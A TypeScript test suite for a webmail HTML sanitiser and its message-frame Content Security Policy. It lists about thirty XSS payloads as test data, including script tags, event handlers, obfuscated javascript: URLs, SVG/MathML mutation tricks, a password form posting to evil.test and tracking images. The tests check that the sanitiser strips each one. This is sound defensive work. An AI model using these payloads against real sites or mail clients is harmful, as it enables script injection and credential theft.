/**
 * The webmail's sanitiser against XSS vectors found in mail: script, event handlers,
 * javascript:/data:/vbscript: URLs, SVG, CSS expressions and url(), <base>, forms, meta
 * refresh, broken markup, entity-encoded schemes; and remote images held back.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { sanitizeMessageHtml, messageFrameCsp } from './html-sanitizer.js';

const vectors: [string, string][] = [
  ['script', '<p>hi</p><script>window.pwned=1</script>'],
  ['script, odd case and attributes', '<ScRiPt type="text/javascript" src="https://evil.test/x.js"></ScRiPt>'],
  ['img onerror', '<img src="x" onerror="window.pwned=1">'],
  ['body onload', '<body onload="window.pwned=1"><p>x</p></body>'],
  ['svg onload', '<svg onload="window.pwned=1"><circle r="1"/></svg>'],
  ['svg script', '<svg><script>window.pwned=1</script></svg>'],
  ['javascript: link', '<a href="javascript:window.pwned=1">click</a>'],
  ['javascript: with entities', '<a href="jav&#x09;ascript:window.pwned=1">click</a>'],
  ['javascript: with spaces', '<a href=" javascript:window.pwned=1">click</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==">x</a>'],
  ['data: image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['style expression', '<div style="width: expression(window.pwned=1)">x</div>'],
  ['style url', '<div style="background:url(https://evil.test/track.gif)">x</div>'],
  ['style element', '<style>body{background:url(https://evil.test/t.gif)}</style><p>x</p>'],
  ['base', '<base href="https://evil.test/"><a href="page">x</a>'],
  ['form', '<form action="https://evil.test/steal"><input name="password"><button>go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test/">'],
  ['iframe', '<iframe src="https://evil.test/"></iframe>'],
  ['object/embed', '<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/x.swf">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.test/x.css">'],
  ['broken markup', '<img src=x onerror=window.pwned=1//<p>"><script>window.pwned=1</script'],
  ['unclosed attribute', '<a href="https://ok.test/" onclick="window.pwned=1>text</a>'],
  ['nested comment trick', '<!--<img src="--><img src=x onerror=window.pwned=1//">'],
  ['math/mtext', '<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>'],
  ['protocol-relative image', '<img src="//evil.test/t.gif">'],
  ['forged data-remote-src', '<img data-remote-src="javascript:1" src="cid:none">'],
  ['srcset tracking', '<img srcset="https://evil.test/a.gif 1x">'],
];

void test('sanitizer: no vector keeps anything that runs or fetches', () => {
  for (const [name, html] of vectors) {
    const out = sanitizeMessageHtml(html).html;
    assert.doesNotMatch(out, /<\s*(script|style|iframe|object|embed|form|input|button|base|meta|link|svg|math)\b/i, `${name}: ${out}`);
    assert.doesNotMatch(out, /\son[a-z]+\s*=/i, `${name}: handler kept: ${out}`);
    assert.doesNotMatch(out, /(javascript|vbscript|data):/i, `${name}: scheme kept: ${out}`);
    assert.doesNotMatch(out, /\sstyle\s*=/i, `${name}: style kept: ${out}`);
    assert.doesNotMatch(out, /\s(src|srcset|href)\s*=\s*"(https?:)?\/\/evil/i, `${name}: remote fetch kept: ${out}`);
  }
});

void test('sanitizer: text, links and structure survive; links open outside the frame', () => {
  const out = sanitizeMessageHtml('<h1>Olá</h1><p>See <a href="https://example.org/x?a=1&amp;b=2">this</a> and <b>that</b>.</p><table><tr><td>1</td></tr></table>').html;
  assert.match(out, /<h1>Olá<\/h1>/);
  assert.match(out, /<a href="https:\/\/example\.org\/x\?a=1&amp;b=2" target="_blank" rel="noopener noreferrer">this<\/a>/);
  assert.match(out, /<td>1<\/td>/);
  assert.match(sanitizeMessageHtml('<a href="mailto:bob@example.org">bob</a>').html, /href="mailto:bob@example\.org"/);
});

void test('sanitizer: remote images are held back until asked; cid: images map to this server', () => {
  const html = '<img src="https://tracker.test/p.gif" alt="logo"><img src="cid:part1@example.org">';
  const held = sanitizeMessageHtml(html, { cidUrl: (id) => (id === 'part1@example.org' ? '/jmap/download/a/b/c' : undefined) });
  assert.equal(held.blockedImages, 1);
  assert.match(held.html, /<img alt="logo" data-remote-src="https:\/\/tracker\.test\/p\.gif" \/>|<img alt="logo" data-remote-src="https:\/\/tracker\.test\/p\.gif">/);
  assert.doesNotMatch(held.html, /\ssrc="https:/);
  assert.match(held.html, /src="\/jmap\/download\/a\/b\/c"/);
  const shown = sanitizeMessageHtml(html, { remoteImages: true });
  assert.equal(shown.blockedImages, 0);
  assert.match(shown.html, /src="https:\/\/tracker\.test\/p\.gif"/);
});

void test('the message frame CSP forbids script and allows remote images only when asked', () => {
  assert.match(messageFrameCsp(false), /default-src 'none'/);
  assert.match(messageFrameCsp(false), /sandbox/);
  assert.doesNotMatch(messageFrameCsp(false), /script-src/);
  assert.doesNotMatch(messageFrameCsp(false), /https:/);
  assert.match(messageFrameCsp(true), /img-src 'self' data: https: http:/);
});
